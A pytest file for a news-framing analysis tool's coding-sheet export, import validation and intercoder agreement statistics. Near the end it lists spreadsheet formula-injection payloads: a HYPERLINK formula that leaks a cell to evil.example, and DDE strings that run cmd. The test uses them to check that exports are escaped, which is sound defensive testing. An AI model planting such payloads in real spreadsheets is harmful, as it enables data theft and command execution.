"""Coding sheets and agreement with human coders: stratified blind export, byte-identical re-export, cell-level
errors that name file, row and column, and alpha / F1 / rho checked against krippendorff, sklearn and scipy."""

from __future__ import annotations

import zipfile
from io import BytesIO
from pathlib import Path

import krippendorff
import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook
from scipy.stats import spearmanr
from sklearn.metrics import f1_score, precision_recall_fscore_support

from analysis.core import storage, tables
from analysis.core.errors import AnalysisError

OUTLETS = ("Reuters", "Fox News", "The Guardian", "Breitbart")
FRAMES = ("conflict", "human_interest", "economic_consequences", "morality", "responsibility")
BOOT = {"resamples": np.random.default_rng(0).integers(0, 1, size=(0, 1)), "confidence": 0.95}


@pytest.fixture
def cs():
    from analysis.validation import codesheets

    return codesheets


@pytest.fixture
def ag():
    from analysis.validation import agreement

    return agreement


def _corpus() -> dict[str, pd.DataFrame]:
    """Four outlets x 5 articles x 6 sentences, one duplicate article; a frame, a sentiment label and a
    source type that occur once, so stratification has something rare to find."""
    docs = [(f"{o[:3].lower()}{k}", o) for o in OUTLETS for k in range(5)] + [("dup0", "Reuters")]
    sentences = pd.DataFrame([(d, s, o, 0, 1, f"Sentence {s} of {d}.") for d, o in docs for s in range(6)],
                             columns=["doc_id", "sent_id", "outlet", "start", "end", "text"])
    articles = pd.DataFrame({"doc_id": [d for d, _ in docs], "is_duplicate": [d == "dup0" for d, _ in docs]})
    hits = [(d, s, o, "generic_news_frames", f) for d, o in docs for s in range(6)
            for f, on in (("conflict", s % 2 == 0), ("economic_consequences", s == 1),
                          ("responsibility", s == 5 and o == "The Guardian"),
                          ("morality", d == "fox0" and s == 3)) if on]
    frame_hits = pd.DataFrame(hits, columns=["doc_id", "sent_id", "outlet", "codebook", "frame"]).assign(rebuttal=False)
    rng = np.random.default_rng(1)
    sentiment = sentences[["doc_id", "sent_id", "outlet"]].assign(instrument="vader", instrument_version="v1",
                                                                 score=rng.uniform(-1, 1, len(sentences)))
    actors = sentences.loc[sentences["sent_id"] < 2, ["doc_id", "sent_id", "outlet"]].assign(
        actor=lambda d: np.where(d["sent_id"] == 0, "Hikvision", "US government"),
        instrument="target_logreg", instrument_version="v1")
    actors["label"] = np.where(np.arange(len(actors)) % 2 == 0, "negative", "neutral")
    actors.loc[actors.index[3], "label"] = "positive"
    actors["score"] = actors["label"].map({"negative": -0.5, "neutral": 0.0, "positive": 0.5})
    quotes = pd.DataFrame([(d, q, 2 * q, f"Quote {q} in {d}", "us_government" if q == 0 else "company")
                           for d, _ in docs for q in range(2)],
                          columns=["doc_id", "quote_seq", "sent_id", "text", "source_type"])
    quotes.loc[5, "source_type"] = "ngo_advocacy"
    return {"sentences": sentences, "articles": articles, "frame_hits": frame_hits,
            "sentence_sentiment": sentiment, "actor_sentiment": actors, "quotes": quotes}


@pytest.fixture
def study(tiny_study):
    for name, df in _corpus().items():
        storage.write_table(df, tiny_study.table(name))
    return tiny_study


def _filled(paths, measure: str, *, flip: float = 0.0, seed: int = 0) -> pd.DataFrame:
    """The exported sheet coded with the automated labels, a share ``flip`` of them changed."""
    rng = np.random.default_rng(seed)
    sheet = pd.read_csv(paths.reports / "validation" / f"codesheet_{measure}.csv", dtype=str, keep_default_na=False)
    key = pd.read_parquet(paths.interim / "codesheets" / f"{measure}_key.parquet").set_index("unit_id")
    key = key.loc[sheet["unit_id"]].reset_index()
    changed = rng.random(len(sheet)) < flip
    if measure == "frames":
        for frame in FRAMES:
            sheet[frame] = np.where(changed, 1 - key[f"auto_{frame}"], key[f"auto_{frame}"])
    elif measure == "sentiment":
        sheet["sentiment"] = np.clip(np.round(2 * key["auto_score"]) + changed, -2, 2).astype(int)
    elif measure == "actor-sentiment":
        sheet["sentiment"] = np.where(changed, "positive", key["auto_sentiment"])
    else:
        sheet["source_type"] = np.where(changed, "other", key["auto_source_type"])
    return sheet


def _save(sheet: pd.DataFrame, path: Path) -> Path:
    if path.suffix == ".xlsx":
        sheet.to_excel(path, index=False, sheet_name="units")
    else:
        sheet.to_csv(path, index=False)
    return path


# --- sampling and export ------------------------------------------------------------------------------------------

def test_stratified_sample_covers_rare_labels_and_every_outlet(cs):
    units = pd.DataFrame({"unit_id": [f"u{i}" for i in range(300)],
                          "outlet": [f"o{i % 7}" for i in range(300)],
                          "label": ["common"] * 260 + ["mid"] * 37 + ["rare"] * 3})
    sample = cs.stratified_sample(units, n=30, seed=4)
    assert len(sample) == 30 and sample["unit_id"].is_unique
    assert sample["label"].value_counts().to_dict() == {"common": 13, "mid": 14, "rare": 3}
    assert set(sample["outlet"]) == set(units["outlet"])
    assert cs.stratified_sample(units, n=3, seed=4)["label"].sort_values().tolist() == ["common", "mid", "rare"]
    pd.testing.assert_frame_equal(cs.stratified_sample(units, n=30, seed=4), sample)
    assert not cs.stratified_sample(units, n=30, seed=5).equals(sample)
    assert len(cs.stratified_sample(units, n=1000, seed=4)) == 300


SHEET_COLUMNS = {
    "frames": ["unit_id", "unit_hash", "text", "context_before", "context_after", *FRAMES, "note"],
    "sentiment": ["unit_id", "unit_hash", "text", "context_before", "context_after", "sentiment", "note"],
    "actor-sentiment": ["unit_id", "unit_hash", "actor", "text", "context_before", "context_after", "sentiment", "note"],
    "quotes": ["unit_id", "unit_hash", "text", "sentence", "context_before", "context_after", "source_type", "note"],
}
RARE = {"frames": "morality", "sentiment": None, "actor-sentiment": "positive", "quotes": "ngo_advocacy"}


@pytest.mark.parametrize("measure", list(SHEET_COLUMNS))
def test_export_is_blind_stratified_and_byte_identical(cs, study, measure):
    out = cs.export_codesheet(study, measure=measure, n=24, seed=3)
    assert out["csv"] == study.reports / "validation" / f"codesheet_{measure}.csv"
    csv, xlsx = out["csv"].read_bytes(), out["xlsx"].read_bytes()
    sheet = pd.read_csv(out["csv"], dtype=str, keep_default_na=False)
    assert list(sheet.columns) == SHEET_COLUMNS[measure]  # no outlet, no automated label or score
    assert len(sheet) == 24 and sheet["unit_id"].is_unique
    assert (sheet[SHEET_COLUMNS[measure][-2]] == "").all()
    key = pd.read_parquet(out["key"])
    assert key["unit_id"].tolist() == sheet["unit_id"].tolist() and key["sheet_row"].tolist() == list(range(2, 26))
    assert set(key["outlet"]) == set(OUTLETS) and "dup0" not in set(key["doc_id"])
    if RARE[measure]:
        assert RARE[measure] in set(key["label"])
    # The same inputs give the same bytes, the workbook's dates and zip entries included.
    out["xlsx"].unlink()
    cs.export_codesheet(study, measure=measure, n=24, seed=3)
    assert out["csv"].read_bytes() == csv and out["xlsx"].read_bytes() == xlsx
    with zipfile.ZipFile(out["xlsx"]) as z:
        assert {i.date_time for i in z.infolist()} == {cs.FIXED_TIME.timetuple()[:6]}
    wb = load_workbook(out["xlsx"])
    assert wb.sheetnames == ["units", "codebook"] and wb.properties.created == cs.FIXED_TIME
    assert [c.value for c in wb["units"][1]] == SHEET_COLUMNS[measure]
    book = pd.DataFrame(wb["codebook"].values)
    assert book.iloc[0].tolist() == ["column", "label", "definition", "allowed values"]
    assert book[0].tolist()[1:] == SHEET_COLUMNS[measure][-1 - (5 if measure == "frames" else 1):-1]
    assert cs.export_codesheet(study, measure=measure, n=24, seed=4)["csv"].read_bytes() != csv


def test_frames_codebook_sheet_uses_the_codebook_definitions(cs, study):
    from analysis.framing.codebook import load_codebook

    out = cs.export_codesheet(study, measure="frames", n=10)
    book = pd.DataFrame(load_workbook(out["xlsx"])["codebook"].values).iloc[1:]
    codebook = load_codebook(study.codebook("generic_news_frames"))
    for row, frame in zip(book.itertuples(index=False), codebook.frames):
        assert (row[0], row[1], row[3]) == (frame.id, frame.label, "0, 1")
        assert row[2].startswith(frame.definition.strip())


def test_unknown_measure_and_bad_n_name_the_allowed_values(cs, study):
    with pytest.raises(AnalysisError, match="frames, sentiment, actor-sentiment, quotes"):
        cs.export_codesheet(study, measure="tone", n=5)
    with pytest.raises(AnalysisError, match="n must be at least 1"):
        cs.export_codesheet(study, measure="frames", n=0)


# --- statistics against the libraries ---------------------------------------------------------------------------

# Krippendorff (2011), "Computing Krippendorff's alpha-reliability", p. 3: 3 coders, 15 units, nominal 0.691.
KRIPPENDORFF_2011 = np.array([
    [np.nan, np.nan, np.nan, np.nan, np.nan, 3, 4, 1, 2, 1, 1, 3, 3, np.nan, 3],
    [1, np.nan, 2, 1, 3, 3, 4, 3, np.nan, np.nan, np.nan, np.nan, np.nan, np.nan, np.nan],
    [np.nan, np.nan, 2, 1, 3, 4, 4, np.nan, 2, 1, 1, 3, 3, np.nan, 4],
])


@pytest.mark.parametrize("level", ["nominal", "ordinal"])
def test_alpha_matches_krippendorff(ag, level):
    resamples = ag.resample_units(15, n_boot=300, seed=2)
    [row] = ag.alpha_rows(KRIPPENDORFF_2011, level=level, domain=[1, 2, 3, 4], category="all",
                          resamples=resamples, confidence=0.9)
    expected = krippendorff.alpha(reliability_data=KRIPPENDORFF_2011, level_of_measurement=level)
    assert row["value"] == pytest.approx(expected)
    if level == "nominal":
        assert row["value"] == pytest.approx(0.691358, abs=1e-6)
    assert row["n"] == 12 and row["ci_low"] <= row["value"] <= row["ci_high"]


def test_alpha_of_perfect_agreement_is_one(ag):
    codes = np.array([[0, 1, 1, 0, 1, 0], [0, 1, 1, 0, 1, 0]], dtype=float)
    [row] = ag.alpha_rows(codes, level="nominal", domain=[0, 1], category="x",
                          resamples=ag.resample_units(6, n_boot=200, seed=0), confidence=0.95)
    assert (row["value"], row["ci_low"], row["ci_high"], row["n"]) == (1.0, 1.0, 1.0, 6)



def test_alpha_by_hand(ag):
    # Coincidences: o00 = 2, o01 = o10 = 1, o11 = 4; n0 = 3, n1 = 5, n = 8: alpha = 1 - 7 * 1 / (3 * 5) = 8/15.
    codes = np.array([[0, 0, 1, 1], [0, 1, 1, 1]], dtype=float)
    [row] = ag.alpha_rows(codes, level="nominal", domain=[0, 1], category="x", **BOOT)
    assert row["value"] == pytest.approx(8 / 15)


def test_majority_leaves_ties_out(ag):
    codes = np.array([[0, 1, 2, np.nan, 1], [0, 0, 2, np.nan, 1], [1, 1, 0, 2, np.nan]])
    np.testing.assert_array_equal(ag.majority(codes), [0, 1, 2, 2, 1])
    np.testing.assert_array_equal(ag.majority(codes[:2]), [0, np.nan, 2, np.nan, 1])


def test_category_f1_matches_sklearn(ag):
    truth = np.array([0, 0, 1, 2, 2, 1, np.nan, 0, 2, 1])
    predicted = np.array([0, 1, 1, 2, 0, 1, 2, 0, 2, 2])
    rows = pd.DataFrame(ag.category_rows(truth, predicted, categories=["neg", "neu", "pos", "never"], **BOOT))
    keep = ~np.isnan(truth)
    p, r, f, support = precision_recall_fscore_support(truth[keep], predicted[keep], labels=[0, 1, 2],
                                                       zero_division=np.nan)
    got = rows.set_index(["category", "metric"])
    for k, name in enumerate(["neg", "neu", "pos"]):
        assert got.loc[(name, "precision"), "value"] == pytest.approx(p[k])
        assert got.loc[(name, "recall"), "value"] == pytest.approx(r[k])
        assert got.loc[(name, "f1"), "value"] == pytest.approx(f[k])
        assert got.loc[(name, "f1"), "n"] == support[k]
    assert got.loc[("never", "f1"), ["value"]].isna().all()
    assert got.loc[("all", "macro_f1"), "value"] == pytest.approx(
        f1_score(truth[keep], predicted[keep], labels=[0, 1, 2, 3], average="macro", zero_division=np.nan))
    assert got.loc[("all", "macro_f1"), "n"] == 9


def test_binary_f1_per_frame_matches_sklearn(ag):
    truth = np.array([[1, 0], [1, np.nan], [0, 1], [0, 0], [1, 1], [np.nan, 0]])
    predicted = np.array([[1, 1], [0, 1], [0, 1], [1, 0], [1, 1], [1, 0]])
    rows = pd.DataFrame(ag.binary_rows(truth, predicted, categories=["a", "b"], **BOOT))
    got = rows.set_index(["category", "metric"])["value"]
    f1 = []
    for k, name in enumerate("ab"):
        keep = ~np.isnan(truth[:, k])
        p, r, f, _ = precision_recall_fscore_support(truth[keep, k], predicted[keep, k], average="binary")
        assert (got[(name, "precision")], got[(name, "recall")], got[(name, "f1")]) == pytest.approx((p, r, f))
        f1.append(f)
    assert got[("all", "macro_f1")] == pytest.approx(np.mean(f1))


def test_correlation_and_bootstrap_are_seeded(ag):
    rng = np.random.default_rng(3)
    score = rng.uniform(-1, 1, 40)
    mean_code = np.round(2 * score + rng.normal(0, 0.5, 40)) / 2
    rows = ag.correlation_rows(score, mean_code, resamples=ag.resample_units(40, n_boot=500, seed=1), confidence=0.95)
    assert rows[0]["value"] == pytest.approx(spearmanr(score, mean_code).statistic)
    assert rows[0]["ci_low"] < rows[0]["value"] < rows[0]["ci_high"]
    again = ag.correlation_rows(score, mean_code, resamples=ag.resample_units(40, n_boot=500, seed=1),
                                confidence=0.95)
    assert again == rows


# --- import ------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("measure", list(SHEET_COLUMNS))
def test_import_round_trip_writes_the_agreement_table(cs, study, measure, tmp_path):
    cs.export_codesheet(study, measure=measure, n=24)
    files = [_save(_filled(study, measure), tmp_path / "anna.csv"),
             _save(_filled(study, measure, flip=0.25, seed=1), tmp_path / "ben.xlsx")]
    table = cs.import_codesheets(study, measure=measure, files=files, n_boot=50)
    pd.testing.assert_frame_equal(tables.validate(table, "agreement"), table)
    assert set(table["measure"]) == {measure}
    metrics = set(table["metric"])
    assert "krippendorff_alpha" in metrics
    assert metrics >= ({"spearman", "pearson"} if measure == "sentiment" else {"precision", "recall", "f1", "macro_f1"})
    if measure == "sentiment":
        assert table.set_index("metric").loc["spearman", "value"] > 0.8
    else:
        # Coder anna copied the automated labels, so wherever her copy is the majority the measure is right.
        assert table.query("metric == 'macro_f1'")["value"].iloc[0] > 0.5
    written = pd.read_csv(study.reports / "validation" / "agreement.csv")
    assert len(written) == len(table)


def test_reimport_replaces_only_its_measure(cs, study, tmp_path):
    out = study.reports / "validation" / "agreement.csv"
    for measure in ("quotes", "frames"):
        cs.export_codesheet(study, measure=measure, n=20)
        files = [_save(_filled(study, measure), tmp_path / f"a_{measure}.csv"),
                 _save(_filled(study, measure, flip=0.3), tmp_path / f"b_{measure}.csv")]
        cs.import_codesheets(study, measure=measure, files=files, n_boot=30)
    first = out.read_bytes()
    assert pd.read_csv(out)["measure"].drop_duplicates().tolist() == ["frames", "quotes"]
    cs.import_codesheets(study, measure="frames", files=[tmp_path / "a_frames.csv", tmp_path / "b_frames.csv"],
                         n_boot=30)
    assert out.read_bytes() == first
    cs.import_codesheets(study, measure="frames", files=[tmp_path / "a_frames.csv"], n_boot=30)
    again = pd.read_csv(out)
    assert "krippendorff_alpha" not in set(again.query("measure == 'frames'")["metric"])  # one coder: no alpha
    pd.testing.assert_frame_equal(again.query("measure == 'quotes'").reset_index(drop=True),
                                  pd.read_csv(BytesIO(first)).query("measure == 'quotes'")
                                  .reset_index(drop=True))


def test_lenient_cells_are_accepted(cs, study, tmp_path):
    cs.export_codesheet(study, measure="sentiment", n=12)
    sheet = _filled(study, "sentiment")
    sheet["sentiment"] = [f"+{v}" if int(v) > 0 else f"{v}.0" for v in sheet["sentiment"]]
    text = sheet.to_csv(index=False) + "\n\n"  # trailing blank lines
    (tmp_path / "anna.csv").write_text(text, encoding="utf-8-sig")
    table = cs.import_codesheets(study, measure="sentiment", files=[tmp_path / "anna.csv"], n_boot=20)
    assert table["metric"].tolist() == ["spearman", "pearson"]


def _corrupt(sheet: pd.DataFrame, problem: str) -> tuple[pd.DataFrame, int | None, str]:
    """A broken copy of ``sheet``, the spreadsheet row and the column the error must name."""
    sheet = sheet.astype(str)
    if problem == "unknown id":
        sheet.loc[3, "unit_id"] = "no-such-unit:1"
        return sheet, 5, "unit_id"
    if problem == "invalid code":
        sheet.loc[4, "conflict"] = "yes"
        return sheet, 6, "conflict"
    if problem == "blank code":
        sheet.loc[0, "morality"] = ""
        return sheet, 2, "morality"
    if problem == "duplicate row":
        return pd.concat([sheet, sheet.iloc[[1]]], ignore_index=True), len(sheet) + 2, "unit_id"
    if problem == "missing units":
        return sheet.drop(index=[2, 7]), 4, "unit_id"  # reported by their rows in the exported sheet
    assert problem == "missing column"
    return sheet.drop(columns="morality"), 1, "morality"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@pytest.mark.parametrize("problem", ["unknown id", "invalid code", "blank code", "duplicate row", "missing units",
                                     "missing column"])
def test_malformed_sheet_errors_name_file_row_and_column(cs, study, tmp_path, problem, suffix):
    cs.export_codesheet(study, measure="frames", n=16)
    broken, row, column = _corrupt(_filled(study, "frames"), problem)
    path = _save(broken, tmp_path / f"coder_b{suffix}")
    good = _save(_filled(study, "frames"), tmp_path / "coder_a.csv")
    with pytest.raises(cs.CodesheetError) as error:
        cs.import_codesheets(study, measure="frames", files=[good, path], n_boot=10)
    lines = [line for line in str(error.value).splitlines() if line.startswith(str(path))]
    assert any(f"row {row}" in line and f"column {column!r}" in line for line in lines), lines
    assert not any(line.startswith(str(good)) for line in str(error.value).splitlines())
    if problem == "missing units":
        assert "2 units" in lines[0] and "row 9" in lines[0]


def test_unreadable_files_and_missing_key(cs, study, tmp_path):
    with pytest.raises(AnalysisError, match="export a sheet first"):
        cs.import_codesheets(study, measure="quotes", files=[tmp_path / "x.csv"])
    cs.export_codesheet(study, measure="quotes", n=8)
    (tmp_path / "bad.xlsx").write_bytes(b"not a zip")
    (tmp_path / "bad.txt").write_text("unit_id\n")
    for name in ("bad.xlsx", "bad.txt", "absent.csv"):
        with pytest.raises(cs.CodesheetError, match=name):
            cs.import_codesheets(study, measure="quotes", files=[tmp_path / name])


def test_the_command_line_offers_exactly_the_measures_codesheets_know(cs):
    from analysis.run.stages import CODESHEET_MEASURES

    assert CODESHEET_MEASURES == cs.MEASURES


def test_cli_export_and_import(cs, study, tmp_path, capsys):
    from analysis.run.cli import build_parser

    parser = build_parser()
    args = parser.parse_args(["codesheet", "export", "tiny", "--measure", "actor-sentiment", "--n", "10"])
    assert cs.run_cli(args) == 0
    files = [_save(_filled(study, "actor-sentiment"), tmp_path / "a.csv"),
             _save(_filled(study, "actor-sentiment", flip=0.2), tmp_path / "b.xlsx")]
    args = parser.parse_args(["codesheet", "import", "tiny", "--measure", "actor-sentiment", *map(str, files),
                              "--n-boot", "20", "--seed", "1"])
    assert cs.run_cli(args) == 0
    assert "krippendorff_alpha" in capsys.readouterr().out
    with pytest.raises(SystemExit):
        parser.parse_args(["codesheet", "export", "tiny", "--measure", "tone", "--n", "3"])


# --- spreadsheet safety and unit hashes ----------------------------------------------------------------------------

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-1+cmd|' /C calc'!A0"]


def test_formula_text_is_quoted_in_csv_and_xlsx_and_the_import_takes_the_quote_off(cs, study, tmp_path):
    sentences = _corpus()["sentences"]
    sentences["text"] = [f"{ATTACKS[i % len(ATTACKS)]} {i}" for i in range(len(sentences))]
    storage.write_table(sentences, study.table("sentences"))
    out = cs.export_codesheet(study, measure="sentiment", n=12)
    raw = pd.read_csv(out["csv"], dtype=str, keep_default_na=False)
    for column in ("text", "context_before", "context_after"):
        shown = raw.loc[raw[column] != "", column]
        assert len(shown) and shown.str.startswith(("'=", "'+", "'@", "'-")).all(), column
    units = load_workbook(out["xlsx"])["units"]
    texts = [row[2] for row in units.iter_rows(min_row=2)]
    assert all(c.value.startswith("'") and c.data_type == "s" for c in texts)
    # Coded copies keep the quotes (the coder's spreadsheet shows them as text); the hashes still match.
    files = [_save(_filled(study, "sentiment"), tmp_path / "anna.csv"),
             _save(_filled(study, "sentiment"), tmp_path / "ben.xlsx")]
    table = cs.import_codesheets(study, measure="sentiment", files=files, n_boot=10)
    assert table.set_index("metric").loc["krippendorff_alpha", "value"] == 1.0


def _problems(cs, study, sheet: pd.DataFrame, path: Path) -> list[str]:
    with pytest.raises(cs.CodesheetError) as error:
        cs.import_codesheets(study, measure="frames", files=[_save(sheet, path)], n_boot=10)
    return [line for line in str(error.value).splitlines()[1:]]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_swapped_unit_ids_and_edited_text_are_caught_by_the_unit_hash(cs, study, tmp_path, suffix):
    cs.export_codesheet(study, measure="frames", n=16)
    swapped = _filled(study, "frames")
    swapped.loc[[0, 1], "unit_id"] = swapped.loc[[1, 0], "unit_id"].to_numpy()
    lines = _problems(cs, study, swapped, tmp_path / f"anna{suffix}")
    assert len(lines) == 2 and all(f"anna{suffix}: row {r}, column 'unit_hash':" in line
                                   for r, line in zip((2, 3), lines)), lines
    assert "unit ids were moved between rows" in lines[0]

    both = _filled(study, "frames")  # the hash moved with the id: the text no longer matches either
    both.loc[[0, 1], ["unit_id", "unit_hash"]] = both.loc[[1, 0], ["unit_id", "unit_hash"]].to_numpy()
    lines = _problems(cs, study, both, tmp_path / f"ben{suffix}")
    assert len(lines) == 2 and "row 2, columns text, context_before, context_after: the text differs" in lines[0]

    edited = _filled(study, "frames")
    edited.loc[3, "context_after"] += " And more."
    (line,) = _problems(cs, study, edited, tmp_path / f"cleo{suffix}")
    assert line.startswith(f"{tmp_path / f'cleo{suffix}'}: row 5, columns text, context_before, context_after:")

    rewrapped = _filled(study, "frames")  # what a spreadsheet does to whitespace is not an edit
    rewrapped.loc[3, "text"] = "  " + rewrapped.loc[3, "text"].replace(" ", "\r\n") + " "
    cs.import_codesheets(study, measure="frames", files=[_save(rewrapped, tmp_path / f"dan{suffix}")], n_boot=10)


def test_the_units_worksheet_is_found_by_its_header_not_its_name(cs, study, tmp_path):
    cs.export_codesheet(study, measure="frames", n=16)
    codebook = pd.DataFrame({"column": ["conflict"], "label": ["Conflict"], "definition": ["..."],
                             "allowed values": ["0, 1"]})
    path = tmp_path / "anna.xlsx"
    with pd.ExcelWriter(path) as writer:  # the coder renamed the tabs and moved the codebook first
        codebook.to_excel(writer, sheet_name="units", index=False)
        _filled(study, "frames").to_excel(writer, sheet_name="Anna's codes", index=False)
    table = cs.import_codesheets(study, measure="frames", files=[path], n_boot=10)
    assert table.query("metric == 'macro_f1'")["value"].iloc[0] == 1.0
    with pd.ExcelWriter(path) as writer:
        codebook.to_excel(writer, sheet_name="units", index=False)
    with pytest.raises(cs.CodesheetError, match=r"anna.xlsx: no worksheet has the exported header with a 'unit_id' "
                                                r"column; worksheets: units$"):
        cs.import_codesheets(study, measure="frames", files=[path], n_boot=10)
    with pd.ExcelWriter(path) as writer:
        _filled(study, "frames").to_excel(writer, sheet_name="a", index=False)
        _filled(study, "frames").to_excel(writer, sheet_name="b", index=False)
    with pytest.raises(cs.CodesheetError, match=r"2 worksheets \(a, b\) have the exported header"):
        cs.import_codesheets(study, measure="frames", files=[path], n_boot=10)


def test_import_bounds_n_boot(cs, study, tmp_path):
    cs.export_codesheet(study, measure="frames", n=16)
    path = _save(_filled(study, "frames"), tmp_path / "anna.csv")
    with pytest.raises(AnalysisError, match=r"key 'n_boot' is 9223372036854775807; allowed: 0 <= n_boot <= 100000"):
        cs.import_codesheets(study, measure="frames", files=[path], n_boot=9223372036854775807)
